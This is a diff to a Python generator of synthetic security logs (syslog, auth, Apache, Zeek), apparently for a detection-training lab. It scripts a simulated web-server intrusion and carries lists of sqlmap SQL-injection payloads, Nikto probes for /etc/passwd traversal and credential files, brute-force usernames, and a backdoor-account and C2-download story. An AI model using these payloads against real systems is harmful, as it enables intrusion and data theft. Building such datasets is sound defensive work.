@@ -138,7 +138,7 @@ def conn(t: datetime, orig: str, oport: int, resp: str, rport: int, proto: str =
         "-" if duration is None else f"{duration:.6f}",
         "-" if ob is None else str(ob), "-" if rb is None else str(rb),
         state, _is_local(orig), _is_local(resp), "0", history,
-        str(opk), str(oib), str(rpk), str(rib), "-",
+        str(opk), str(oib), str(rpk), str(rib), "(empty)",
     ]
     ZEEK.append((t, row))
 
@@ -527,7 +527,7 @@ class Desk:
         self.https(t + timedelta(seconds=2), "52.96.165.18", self.outlook)
         t += timedelta(seconds=rng.uniform(30, 240))
         self.chrome = h.proc(t, CHROME, f'"{CHROME}" ', self.explorer, meta=CHROME_META)
-        for i in range(rng.randint(2, 3)):
+        for i in range(rng.randint(1, 2)):
             t += timedelta(seconds=rng.uniform(0.2, 0.8))
             typ = ["gpu-process", "utility --utility-sub-type=network.mojom.NetworkService",
                    "renderer"][i]
@@ -653,10 +653,10 @@ def workstation_day(h: WinHost, day: int, rng: random.Random, ltype: int = 2,
     if end is None:
         end = at(day, 17, 5) + timedelta(minutes=rng.uniform(0, 50))
     lunch = at(day, 12, 0) + timedelta(minutes=rng.uniform(-15, 30))
-    d.activity(t + timedelta(minutes=2), lunch, rng.randint(4, 7))
+    d.activity(t + timedelta(minutes=2), lunch, rng.randint(3, 5))
     back = lunch + timedelta(minutes=rng.uniform(35, 55))
     d.lock_unlock(lunch, back)
-    d.activity(back + timedelta(minutes=1), end - timedelta(minutes=3), rng.randint(4, 7))
+    d.activity(back + timedelta(minutes=1), end - timedelta(minutes=3), rng.randint(3, 5))
     d.end(end)
     FS01.logoff(end + timedelta(seconds=rng.uniform(3, 9)), user, 3, fs_lid)
     return d
@@ -819,9 +819,9 @@ def story_phish_to_fileserver() -> None:
     dc_tgs(tm, u, "FS01$", h.ip, rng)
     fs_lid = FS01.logon(tm + timedelta(milliseconds=30), u, 3, src_ip=h.ip,
                         src_port=str(rng.randint(49700, 65000)), package="Kerberos", lproc="Kerberos")
-    d.activity(t + timedelta(minutes=2), at(THU, 12, 4), 8)
+    d.activity(t + timedelta(minutes=2), at(THU, 12, 4), 5)
     d.lock_unlock(at(THU, 12, 4, 31), at(THU, 12, 51, 8))
-    d.activity(at(THU, 12, 52), at(THU, 13, 55), 4)
+    d.activity(at(THU, 12, 52), at(THU, 13, 55), 3)
 
     # 13:58 the attachment is saved by Outlook and opened in Word (T1566.001)
     t0 = at(THU, 13, 58, 41.3)
@@ -942,7 +942,7 @@ def story_phish_to_fileserver() -> None:
 
     # the rest of Thursday: C2 check-ins while alice keeps working
     c2_beacons(h, ps2, at(THU, 14, 16, 5.0), at(THU, 17, 38), rng)
-    d.activity(at(THU, 14, 35), at(THU, 17, 35), 7)
+    d.activity(at(THU, 14, 35), at(THU, 17, 35), 5)
     t_end = at(THU, 17, 41, 26.0)
     d.end(t_end)
     FS01.logoff(t_end + timedelta(seconds=4.2), u, 3, fs_lid)
@@ -961,9 +961,9 @@ def story_phish_to_fileserver() -> None:
     dc_tgs(tm, u, "FS01$", h.ip, rng)
     fs_lid = FS01.logon(tm + timedelta(milliseconds=30), u, 3, src_ip=h.ip,
                         src_port=str(rng.randint(49700, 65000)), package="Kerberos", lproc="Kerberos")
-    d.activity(t + timedelta(minutes=2), at(FRI, 12, 10), 9)
+    d.activity(t + timedelta(minutes=2), at(FRI, 12, 10), 5)
     d.lock_unlock(at(FRI, 12, 10, 44), at(FRI, 12, 58, 2))
-    d.activity(at(FRI, 13, 0), at(FRI, 17, 30), 9)
+    d.activity(at(FRI, 13, 0), at(FRI, 17, 30), 5)
     t_end = at(FRI, 17, 33, 51.0)
     d.end(t_end)
     FS01.logoff(t_end + timedelta(seconds=3.9), u, 3, fs_lid)
@@ -1082,7 +1082,7 @@ def story_clock_skew() -> None:
         dc_preauth_failed(tt, u, h.ip, "0x25", rng)
         conn(tt - timedelta(milliseconds=5), h.ip, rng.randint(49700, 65000), IP["DC01"], 88, "tcp",
              "krb_tcp", 0.004, 288, 201)
-    d.activity(t + timedelta(minutes=1), at(THU, 9, 25), 5)
+    d.activity(t + timedelta(minutes=1), at(THU, 9, 25), 4)
     # 09:31 it_admin comes by: over-the-shoulder elevation, then resets the time configuration
     t = at(THU, 9, 31, 20.2)
     lid = h.logon(t, "it_admin", 11, src_ip="127.0.0.1", workstation="WS02",
@@ -1134,9 +1134,9 @@ def story_clock_skew() -> None:
          3.1, 6120, 28811)
     STORY_WINDOWS["ws02-skew"] = (at(THU, 7, 51, 12.0), t + timedelta(seconds=0.3))
     # the rest of bob's Thursday is ordinary
-    d.activity(at(THU, 9, 40), at(THU, 12, 15), 6)
+    d.activity(at(THU, 9, 40), at(THU, 12, 15), 4)
     d.lock_unlock(at(THU, 12, 15, 30), at(THU, 13, 2, 11))
-    d.activity(at(THU, 13, 3), at(THU, 17, 10), 8)
+    d.activity(at(THU, 13, 3), at(THU, 17, 10), 5)
     t_end = at(THU, 17, 14, 9.0)
     d.end(t_end)
     FS01.logoff(t_end + timedelta(seconds=5.1), u, 3, fs_lid)
@@ -1210,6 +1210,530 @@ def story_vendor_task() -> None:
 
 
 # --------------------------------------------------------------------------------------------
+# Linux: RFC 3164 syslog files (Debian 11 rsyslog "traditional" format, no year)
+# --------------------------------------------------------------------------------------------
+
+class SyslogFile:
+    def __init__(self, host: str):
+        self.host = host
+        self.lines: list[tuple[datetime, int, str]] = []
+
+    def add(self, t: datetime, tag: str, msg: str) -> None:
+        stamp = f"{t:%b} {t.day:>2} {t:%H:%M:%S}"
+        self.lines.append((t, len(self.lines), f"{stamp} {self.host} {tag}: {msg}"))
+
+    def write(self, path: str) -> int:
+        self.lines.sort(key=lambda x: (x[0].replace(microsecond=0), x[1]))
+        with open(path, "w", encoding="utf-8", newline="\n") as fh:
+            for _, _, line in self.lines:
+                fh.write(line + "\n")
+        return len(self.lines)
+
+
+class Pids:
+    """Linux PIDs grow with time (pid_max 4194304): derive them from the clock, never reuse."""
+
+    def __init__(self, base: int, per_sec: float, rng: random.Random):
+        self.base, self.per_sec, self.rng, self.used = base, per_sec, rng, set()
+
+    def at(self, t: datetime) -> int:
+        p = self.base + int((t - WEEK_START).total_seconds() * self.per_sec) + self.rng.randint(0, 2)
+        while p in self.used:
+            p += 1
+        self.used.add(p)
+        return p
+
+
+WEB_AUTH = SyslogFile("web01")
+WEB_SYS = SyslogFile("web01")
+BK_SYS = SyslogFile("backup01")
+ACCESS: list[tuple[datetime, int, str]] = []
+
+SSHD_MASTER, LOGIND, CRON_D, RSYSLOGD = 612, 455, 498, 401
+
+
+def cron_job(auth: SyslogFile | None, sysf: SyslogFile, pids: Pids, t: datetime, user: str, uid: int,
+             cmd: str, dur: float = 0.4) -> None:
+    pid = pids.at(t)
+    if auth is not None:
+        auth.add(t, f"CRON[{pid}]", f"pam_unix(cron:session): session opened for user {user}(uid={uid}) "
+                                    f"by (uid=0)")
+    sysf.add(t, f"CRON[{pid}]", f"({user}) CMD ({cmd})")
+    if auth is not None:
+        auth.add(t + timedelta(seconds=dur), f"CRON[{pid}]",
+                 f"pam_unix(cron:session): session closed for user {user}")
+
+
+def systemd_unit(sysf: SyslogFile, t: datetime, unit: str, desc: str, dur: float,
+                 cpu: float | None = None) -> None:
+    sysf.add(t, "systemd[1]", f"Starting {desc}...")
+    sysf.add(t + timedelta(seconds=dur), "systemd[1]", f"{unit}: Succeeded.")
+    if cpu is not None:
+        sysf.add(t + timedelta(seconds=dur), "systemd[1]", f"{unit}: Consumed {cpu:.3f}s CPU time.")
+    sysf.add(t + timedelta(seconds=dur), "systemd[1]", f"Finished {desc}.")
+
+
+def linux_daily(sysf: SyslogFile, auth: SyslogFile | None, pids: Pids, rng: random.Random,
+                rsyslog_pid: int) -> None:
+    for day in range(5):
+        d0 = at(day, 0, 0)
+        t = d0 + timedelta(seconds=rng.uniform(0.2, 2))
+        systemd_unit(sysf, t, "logrotate.service", "Rotate log files", rng.uniform(0.3, 1.2), rng.uniform(0.1, 0.4))
+        sysf.add(t + timedelta(seconds=1.4), f"rsyslogd[{rsyslog_pid}]",
+                 f'[origin software="rsyslogd" swVersion="8.2102.0" x-pid="{rsyslog_pid}" '
+                 f'x-info="https://www.rsyslog.com"] rsyslogd was HUPed')
+        systemd_unit(sysf, t + timedelta(seconds=2.1), "man-db.service", "Daily man-db regeneration",
+                     rng.uniform(0.4, 2.0))
+        systemd_unit(sysf, at(day, 6, 0) + timedelta(minutes=rng.uniform(0, 50)), "apt-daily.service",
+                     "Daily apt download activities", rng.uniform(2, 9))
+        systemd_unit(sysf, at(day, 6, 6) + timedelta(minutes=rng.uniform(0, 20)),
+                     "apt-daily-upgrade.service", "Daily apt upgrade and clean activities",
+                     rng.uniform(3, 25), rng.uniform(1.5, 9))
+        tt = at(day, 0, 0) + timedelta(hours=rng.uniform(11, 14))
+        systemd_unit(sysf, tt, "systemd-tmpfiles-clean.service", "Cleanup of Temporary Directories",
+                     rng.uniform(0.02, 0.1))
+        for hh in range(24):
+            cron_job(auth, sysf, pids, at(day, hh, 17, 1.0 + rng.uniform(0, 0.3)), "root", 0,
+                     "cd / && run-parts --report /etc/cron.hourly", rng.uniform(0.01, 0.2))
+        cron_job(auth, sysf, pids, at(day, 6, 25, 1.2), "root", 0,
+                 "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
+                 rng.uniform(3, 20))
+
+
+def ssh_session(pids: Pids, rng: random.Random, t: datetime, user: str, uid: int, src: str,
+                method: str, dur: float, session_no: int, sudo_cmds: list[tuple[float, str, str]] = (),
+                key_fp: str = "ED25519 SHA256:q7yX0pG2m4cKJ1rZfN8wV3sT6uHbLd9eQaYoPiRtUzc",
+                between=None) -> tuple[int, int]:
+    """An SSH login on web01 with optional sudo commands: (offset, pwd, command)."""
+    pid = pids.at(t)
+    port = rng.randint(40000, 64000)
+    tag = f"sshd[{pid}]"
+    if method == "publickey":
+        WEB_AUTH.add(t, tag, f"Accepted publickey for {user} from {src} port {port} ssh2: {key_fp}")
+    else:
+        WEB_AUTH.add(t, tag, f"Accepted password for {user} from {src} port {port} ssh2")
+    WEB_AUTH.add(t, tag, f"pam_unix(sshd:session): session opened for user {user}(uid={uid}) by (uid=0)")
+    WEB_AUTH.add(t, f"systemd-logind[{LOGIND}]", f"New session {session_no} of user {user}.")
+    WEB_SYS.add(t, "systemd[1]", f"Started Session {session_no} of user {user}.")
+    for off, pwd, cmd in sudo_cmds:
+        ts = t + timedelta(seconds=off)
+        WEB_AUTH.add(ts, "sudo", f"{user:>8} : TTY=pts/0 ; PWD={pwd} ; USER=root ; COMMAND={cmd}")
+        WEB_AUTH.add(ts, "sudo", f"pam_unix(sudo:session): session opened for user root(uid=0) by "
+                                 f"{user}(uid={uid})")
+        if between is not None:
+            between(ts, cmd)
+        if not cmd.endswith("/bin/bash"):
+            WEB_AUTH.add(ts + timedelta(seconds=rng.uniform(0.2, 3)), "sudo",
+                         "pam_unix(sudo:session): session closed for user root")
+    te = t + timedelta(seconds=dur)
+    WEB_AUTH.add(te, tag, f"Received disconnect from {src} port {port}:11: disconnected by user")
+    WEB_AUTH.add(te, tag, f"Disconnected from user {user} {src} port {port}")
+    WEB_AUTH.add(te, tag, f"pam_unix(sshd:session): session closed for user {user}")
+    WEB_AUTH.add(te, f"systemd-logind[{LOGIND}]", f"Session {session_no} logged out. Waiting for "
+                                                  f"processes to exit.")
+    WEB_AUTH.add(te, f"systemd-logind[{LOGIND}]", f"Removed session {session_no}.")
+    WEB_SYS.add(te, "systemd[1]", f"session-{session_no}.scope: Succeeded.")
+    conn(t - timedelta(seconds=rng.uniform(0.3, 0.9)), src, port, IP["web01"], 22, "tcp", "ssh",
+         dur + 1.0, rng.randint(3000, 40000), rng.randint(4000, 90000))
+    return pid, port
+
+
+SESSION_NO = [40]
+
+
+def next_session() -> int:
+    SESSION_NO[0] += 1
+    return SESSION_NO[0]
+
+
+def web01_background(pids: Pids) -> None:
+    rng = rstream("web01-background")
+    linux_daily(WEB_SYS, WEB_AUTH, pids, rng, RSYSLOGD)
+    for day in range(5):
+        # apt talks to the Debian mirror every morning
+        conn(at(day, 6, 1) + timedelta(minutes=rng.uniform(0, 45)), IP["web01"], rng.randint(40000, 60000),
+             DEBIAN_MIRROR, 80, "tcp", "http", rng.uniform(0.8, 4), rng.randint(900, 3000),
+             rng.randint(40_000, 2_000_000))
+        # the web team deploys from the admin workstation (publickey) and reloads Apache via sudo
+        for hh, mm in ((10, 5), (15, 20)):
+            if day in (TUE, THU) and hh == 15:
+                continue
+            t = at(day, hh, mm) + timedelta(minutes=rng.uniform(0, 35))
+            ssh_session(pids, rng, t, "deploy", 1001, IP["admin"], "publickey", rng.uniform(120, 700),
+                        next_session(), [(rng.uniform(60, 100), "/srv/www", "/usr/bin/systemctl reload apache2")],
+                        between=lambda ts, cmd: (WEB_SYS.add(ts + timedelta(seconds=0.1), "systemd[1]",
+                                                             "Reloading The Apache HTTP Server..."),
+                                                 WEB_SYS.add(ts + timedelta(seconds=0.3), "systemd[1]",
+                                                             "Reloaded The Apache HTTP Server.")))
+        # web01 resolves through a public resolver
+        for _ in range(6):
+            conn(at(day, 0, 0) + timedelta(seconds=rng.uniform(0, 86000)), IP["web01"],
+                 rng.randint(30000, 60000), DNS_FORWARDER, 53, "udp", "dns", rng.uniform(0.005, 0.03),
+                 rng.randint(30, 60), rng.randint(60, 200))
+
+
+# --------------------------------------------------------------------------------------------
+# Apache combined access log on web01
+# --------------------------------------------------------------------------------------------
+
+SITE = {"/": 8123, "/about.html": 5412, "/contact.html": 4390, "/news.html": 7011,
+        "/assets/css/site.css": 18231, "/assets/js/app.js": 40211, "/img/logo.png": 9310,
+        "/img/hero.jpg": 184223, "/favicon.ico": 1150, "/robots.txt": 64, "/sitemap.xml": 1298}
+BROWSERS = [
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36 Edg/133.0.0.0",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Safari/605.1.15",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Mobile/15E148 Safari/604.1",
+    "Mozilla/5.0 (X11; Linux x86_64; rv:135.0) Gecko/20100101 Firefox/135.0",
+    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Mobile Safari/537.36",
+]
+BOTS = [("66.249.66.%d", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
+        ("40.77.167.%d", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)")]
+SITE_HOST = "www.example.com"
+
+
+def access(t: datetime, ip: str, method: str, path: str, status: int, size: int, ref: str, ua: str,
+           proto: str = "HTTP/1.1") -> None:
+    stamp = t.strftime("%d/%b/%Y:%H:%M:%S +0000")
+    sz = "-" if size == 0 else str(size)
+    ACCESS.append((t, len(ACCESS), f'{ip} - - [{stamp}] "{method} {path} {proto}" {status} {sz} '
+                                   f'"{ref}" "{ua}"'))
+
+
+def web_background() -> None:
+    rng = rstream("web-background")
+    clients = [f"192.0.2.{i}" for i in rng.sample(range(2, 254), 70)]
+    for day in range(5):
+        # ~30 human visits a day, mostly in (European) business hours, a few at night
+        for _ in range(rng.randint(10, 14)):
+            hour = rng.choices(range(24), weights=[1, 1, 1, 1, 1, 1, 2, 4, 7, 9, 9, 8, 7, 8, 9, 9, 8, 6,
+                                                   4, 3, 3, 2, 2, 1])[0]
+            t = at(day, hour, 0) + timedelta(seconds=rng.uniform(0, 3599))
+            if at(TUE, 2, 0) <= t <= at(TUE, 2, 55):
+                continue  # keep the attack window to the attacker (it was quiet that night)
+            ip, ua = rng.choice(clients), rng.choice(BROWSERS)
+            base = f"https://{SITE_HOST}"
+            pages = rng.choices(["/", "/about.html", "/contact.html", "/news.html", "/products.php"],
+                                weights=[5, 2, 2, 2, 4], k=rng.randint(1, 4))
+            ref = rng.choice(["-", "https://www.google.com/", "https://www.bing.com/", "-"])
+            sport = rng.randint(40000, 64000)
+            t0 = t
+            for i, pg in enumerate(pages):
+                if pg == "/products.php":
+                    pg = f"/products.php?id={rng.randint(1, 12)}"
+                    size = rng.randint(6000, 9500)
+                else:
+                    size = SITE[pg]
+                access(t, ip, "GET", pg, 200, size, ref, ua)
+                if i == 0:
+                    for a in ("/assets/css/site.css", "/assets/js/app.js", "/img/logo.png", "/img/hero.jpg"):
+                        t += timedelta(seconds=rng.uniform(0.05, 0.4))
+                        access(t, ip, "GET", a, 200, SITE[a], base + pg, ua)
+                    if rng.random() < 0.5:
+                        access(t + timedelta(seconds=0.3), ip, "GET", "/favicon.ico", 200, 1150, base + pg, ua)
+                    if rng.random() < 0.12:
+                        access(t + timedelta(seconds=0.35), ip, "GET", "/apple-touch-icon.png", 404, 437, "-", ua)
+                ref = base + pg.split("?")[0]
+                t += timedelta(seconds=rng.uniform(8, 120))
+            conn(t0 - timedelta(seconds=0.2), ip, sport, IP["web01"], 443, "tcp", "ssl",
+                 (t - t0).total_seconds() + rng.uniform(1, 5), rng.randint(2000, 9000),
+                 rng.randint(20_000, 300_000))
+        # crawlers
+        for _ in range(rng.randint(3, 6)):
+            fmt_ip, ua = rng.choice(BOTS)
+            ip = fmt_ip % rng.randint(1, 250)
+            t = at(day, 0, 0) + timedelta(seconds=rng.uniform(0, 86000))
+            if at(TUE, 2, 0) <= t <= at(TUE, 2, 55):
+                continue
+            sport = rng.randint(40000, 64000)
+            access(t, ip, "GET", "/robots.txt", 200, 64, "-", ua)
+            for pg in rng.sample(["/", "/about.html", "/news.html", "/sitemap.xml", "/old/catalog.html"], 3):
+                t += timedelta(seconds=rng.uniform(1, 20))
+                access(t, ip, "GET", pg, 404 if pg.startswith("/old") else 200,
+                       437 if pg.startswith("/old") else SITE[pg], "-", ua)
+            conn(t - timedelta(seconds=30), ip, sport, IP["web01"], 443, "tcp", "ssl", 31.0,
+                 rng.randint(1500, 3000), rng.randint(10_000, 30_000))
+
+
+# --------------------------------------------------------------------------------------------
+# Story: intrusion on web01 (malicious), Tue 02:05 .. 02:47 + persistence until Friday
+# --------------------------------------------------------------------------------------------
+
+NIKTO_PATHS = [
+    ("/", 200, 8123), ("/robots.txt", 200, 64), ("/wp-login.php", 404, 437), ("/wp-admin/", 404, 437),
+    ("/xmlrpc.php", 404, 437), ("/.env", 404, 437), ("/.git/HEAD", 404, 437), ("/.git/config", 404, 437),
+    ("/.htaccess", 403, 438), ("/.htpasswd", 403, 438), ("/server-status", 403, 438),
+    ("/phpmyadmin/", 404, 437), ("/pma/", 404, 437), ("/admin/", 404, 437), ("/admin.php", 404, 437),
+    ("/administrator/", 404, 437), ("/login.php", 404, 437), ("/config.php.bak", 404, 437),
+    ("/backup.zip", 404, 437), ("/backup.tar.gz", 404, 437), ("/db.sql", 404, 437), ("/dump.sql", 404, 437),
+    ("/.DS_Store", 404, 437), ("/icons/README", 200, 5108), ("/icons/", 403, 438), ("/cgi-bin/", 403, 438),
+    ("/cgi-bin/test-cgi", 404, 437), ("/cgi-bin/printenv", 404, 437), ("/shell.php", 404, 437),
+    ("/info.php", 404, 437), ("/phpinfo.php", 404, 437), ("/test.php", 404, 437),
+    ("/../../etc/passwd", 400, 226), ("/index.php?page=../../../../etc/passwd", 404, 437),
+    ("/?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000", 200, 8123), ("/manager/html", 404, 437),
+    ("/jmx-console/", 404, 437), ("/solr/admin/", 404, 437), ("/console/", 404, 437),
+    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, 437), ("/actuator/env", 404, 437),
+    ("/.aws/credentials", 404, 437), ("/wp-config.php.bak", 404, 437), ("/config.json", 404, 437),
+    ("/web.config", 404, 437), ("/WEB-INF/web.xml", 404, 437), ("/crossdomain.xml", 404, 437),
+    ("/clientaccesspolicy.xml", 404, 437), ("/sitemap.xml", 200, 1298), ("/old/", 404, 437),
+    ("/uploads/", 404, 437), ("/images/", 404, 437), ("/includes/", 404, 437), ("/tmp/", 404, 437),
+    ("/logs/", 404, 437), ("/api/", 404, 437), ("/user/login", 404, 437), ("/joomla/", 404, 437),
+    ("/drupal/", 404, 437), ("/mambo/", 404, 437), ("/cms/", 404, 437), ("/portal/", 404, 437),
+    ("/webdav/", 404, 437), ("/~root/", 404, 437), ("/scripts/", 404, 437), ("/examples/", 404, 437),
+    ("/docs/", 404, 437), ("/INSTALL", 404, 437), ("/README.md", 404, 437), ("/CHANGELOG.txt", 404, 437),
+    ("/composer.json", 404, 437), ("/package.json", 404, 437), ("/.svn/entries", 404, 437),
+    ("/.bash_history", 404, 437), ("/id_rsa", 404, 437), ("/server-info", 403, 438),
+    ("/cgi-bin/php", 404, 437), ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", 400, 226),
+    ("/index.php?option=com_content", 404, 437), ("/contact.html", 200, 4390), ("/about.html", 200, 5412),
+]
+SQLMAP_PAYLOADS = [
+    "1", "1%27", "1%22", "1%29%28%2C%22.%27%28.%27", "1%27%20OR%201%3D1--%20", "1%20AND%205723%3D5723",
+    "1%20AND%205723%3D8104", "1%27%20AND%205723%3D5723%20AND%20%27wXqB%27%3D%27wXqB",
+    "1%27%20AND%205723%3D8104%20AND%20%27wXqB%27%3D%27wXqB", "1%20ORDER%20BY%201--%20",
+    "1%20ORDER%20BY%2010--%20", "1%20UNION%20ALL%20SELECT%20NULL--%20",
+    "1%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20", "1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20",
+    "1%27%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20",
+    "1%20AND%20%28SELECT%202741%20FROM%20%28SELECT%28SLEEP%285%29%29%29QkTn%29",
+    "1%27%20AND%20%28SELECT%202741%20FROM%20%28SELECT%28SLEEP%285%29%29%29QkTn%29--%20",
+    "1%3BSELECT%20PG_SLEEP%285%29--", "1%20AND%20EXTRACTVALUE%288211%2CCONCAT%280x5c%2C0x71%29%29",
+    "1%20OR%201%3D1", "-1%20OR%201%3D1--%20", "1%27%29%20OR%20%28%271%27%3D%271",
+    "1%20AND%20GTID_SUBSET%28CONCAT%280x71%2C0x71%29%2C1%29", "1%20RLIKE%20%28SELECT%201%29",
+]
+ATTACKER_KEY = ("ssh-rsa " + base64.b64encode(
+    b"\x00\x00\x00\x07ssh-rsa\x00\x00\x00\x03\x01\x00\x01\x00\x00\x01\x81\x00"
+    + b"".join(hashlib.sha512(b"lookout-demo-attacker-key-%d" % i).digest() for i in range(6))).decode()
+    + " root@kali")
+BRUTE_USERS = ["admin", "test", "user", "ubuntu", "oracle", "postgres", "git", "ftpuser", "pi", "guest",
+               "support", "webadmin", "mysql", "jenkins", "ansible", "dev", "backup", "tomcat", "hadoop",
+               "nagios", "minecraft", "steam", "vagrant", "docker", "administrator", "www", "user1",
+               "test1", "oracle1", "ec2-user", "centos", "debian", "ftp", "operator", "sysadmin", "ts3"]
+STORY_LINUX: dict[str, tuple[datetime, datetime]] = {}
+
+
+def story_web01(pids: Pids) -> None:
+    rng = rstream("story-web01")
+    A = ATTACKER
+    # 02:05 Nikto (T1595.002) on port 80
+    t = at(TUE, 2, 5, 11.0)
+    t_first = t
+    sport = rng.randint(40000, 64000)
+    nconn_start = t
+    for i, (path, status, size) in enumerate(NIKTO_PATHS):
+        ua = f"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{'Port Check' if i == 0 else f'{i:06d}'})"
+        access(t, A, "GET", path, status, size, "-", ua)
+        if i % 12 == 11:
+            conn(nconn_start, A, sport, IP["web01"], 80, "tcp", "http", (t - nconn_start).total_seconds() + 0.3,
+                 12 * 210, 12 * 520)
+            nconn_start, sport = t + timedelta(seconds=0.2), rng.randint(40000, 64000)
+        t += timedelta(seconds=rng.uniform(0.6, 2.6))
+    access(t, A, "GET", "/products.php?id=1'%20OR%201=1--", 500, 611, "-", "curl/7.88.1")
+    conn(t, A, rng.randint(40000, 64000), IP["web01"], 80, "tcp", "http", 0.21, 112, 805)
+    # 02:08 sqlmap against the products page (T1190); the app errors on quotes but is not injectable
+    t = at(TUE, 2, 8, 51.0)
+    sport, s0 = rng.randint(40000, 64000), t
+    for i, pl in enumerate(SQLMAP_PAYLOADS):
+        status = 500 if ("%27" in pl or "%22" in pl or "%3B" in pl) else 200
+        size = 611 if status == 500 else (8012 if pl in ("1", "1%20AND%205723%3D5723") else 3190)
+        access(t, A, "GET", f"/products.php?id={pl}", status, size, "-", "sqlmap/1.7.2#stable (https://sqlmap.org)")
+        t += timedelta(seconds=rng.uniform(0.8, 3.2) + (5.0 if "SLEEP" in pl else 0))
+    conn(s0, A, sport, IP["web01"], 80, "tcp", "http", (t - s0).total_seconds(), 9_830, 121_400)
+    t_web_end = t
+    # 02:11 SSH password brute force (T1110.001), hydra-like, one task
+    t = at(TUE, 2, 11, 5.0)
+    attempts = 0
+    seq = []
+    for i in range(150):
+        seq.append(rng.choice(BRUTE_USERS) if rng.random() < 0.55 else "root")
+    seq += ["deploy", "deploy", "deploy"]
+    for j, user in enumerate(seq):
+        pid = pids.at(t)
+        port = rng.randint(32768, 60999)
+        tag = f"sshd[{pid}]"
+        k = 3 if user == "root" else rng.randint(2, 3)
+        last = j == len(seq) - 1
+        c0 = t
+        if user in ("root", "deploy"):
+            WEB_AUTH.add(t, tag, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
+                                 f"ruser= rhost={A}  user={user}")
+        else:
+            WEB_AUTH.add(t, tag, f"Invalid user {user} from {A} port {port}")
+            WEB_AUTH.add(t, tag, "pam_unix(sshd:auth): check pass; user unknown")
+            WEB_AUTH.add(t, tag, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
+                                 f"ruser= rhost={A}")
+        if last:
+            # hydra's third guess for deploy in this connection is right: it logs in and leaves
+            t += timedelta(seconds=rng.uniform(2.0, 2.6))
+            WEB_AUTH.add(t, tag, f"Failed password for deploy from {A} port {port} ssh2")
+            t += timedelta(seconds=rng.uniform(2.0, 2.6))
+            WEB_AUTH.add(t, tag, f"Accepted password for deploy from {A} port {port} ssh2")
+            WEB_AUTH.add(t, tag, "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)")
+            hs = next_session()
+            WEB_AUTH.add(t, f"systemd-logind[{LOGIND}]", f"New session {hs} of user deploy.")
+            WEB_SYS.add(t, "systemd[1]", f"Started Session {hs} of user deploy.")
+            t += timedelta(seconds=0.4)
+            WEB_AUTH.add(t, tag, f"Received disconnect from {A} port {port}:11: Bye Bye")
+            WEB_AUTH.add(t, tag, f"Disconnected from user deploy {A} port {port}")
+            WEB_AUTH.add(t, tag, "pam_unix(sshd:session): session closed for user deploy")
+            WEB_AUTH.add(t, f"systemd-logind[{LOGIND}]", f"Session {hs} logged out. Waiting for processes to exit.")
+            WEB_AUTH.add(t, f"systemd-logind[{LOGIND}]", f"Removed session {hs}.")
+            WEB_SYS.add(t, "systemd[1]", f"session-{hs}.scope: Succeeded.")
+            conn(c0 - timedelta(seconds=0.4), A, port, IP["web01"], 22, "tcp", "ssh",
+                 (t - c0).total_seconds() + 0.5, rng.randint(2600, 3400), rng.randint(3400, 4600))
+            t_ok = t + timedelta(seconds=51.3)  # the attacker's own interactive login
+            STORY_LINUX["brute"] = (at(TUE, 2, 11, 5.0), t)
+            break
+        for a in range(k):
+            t += timedelta(seconds=rng.uniform(2.0, 2.8))
+            attempts += 1
+            if user in ("root", "deploy"):
+                WEB_AUTH.add(t, tag, f"Failed password for {user} from {A} port {port} ssh2")
+            else:
+                WEB_AUTH.add(t, tag, f"Failed password for invalid user {user} from {A} port {port} ssh2")
+        more = k - 1
+        if more >= 1:
+            extra = f"  user={user}" if user in ("root", "deploy") else ""
+            WEB_AUTH.add(t, tag, f"PAM {more} more authentication failure{'s' if more > 1 else ''}; logname= "
+                                 f"uid=0 euid=0 tty=ssh ruser= rhost={A}{extra}")
+        who = "authenticating user" if user in ("root", "deploy") else "invalid user"
+        WEB_AUTH.add(t, tag, f"Connection closed by {who} {user} {A} port {port} [preauth]")
+        conn(c0 - timedelta(seconds=0.4), A, port, IP["web01"], 22, "tcp", "ssh",
+             (t - c0).total_seconds() + 0.5, rng.randint(1500, 2600), rng.randint(2200, 3400))
+        t += timedelta(seconds=rng.uniform(0.8, 4.5))
+    # 02:38:52 valid account (T1078) -> sudo (T1548.003), tool transfer (T1105), keys (T1098.004),
+    # new account (T1136.001), cron persistence (T1053.003)
+    t0 = t_ok
+    sess = next_session()
+
+    def during(ts: datetime, cmd: str) -> None:
+        if "wget" in cmd:
+            conn(ts + timedelta(seconds=0.4), IP["web01"], rng.randint(40000, 60000), C2, 80, "tcp", "http",
+                 1.9, 163, 1_204_331)
+        if cmd.endswith("/bin/bash"):
+            tt = ts + timedelta(seconds=34.2)
+            upid = pids.at(tt)
+            WEB_AUTH.add(tt, f"useradd[{upid}]", "new group: name=sysupdate, GID=1002")
+            WEB_AUTH.add(tt, f"useradd[{upid}]", "new user: name=sysupdate, UID=1002, GID=1002, "
+                                                "home=/home/sysupdate, shell=/bin/bash")
+            tt += timedelta(seconds=15.8)
+            WEB_AUTH.add(tt, f"passwd[{pids.at(tt)}]", "pam_unix(passwd:chauthtok): password changed for sysupdate")
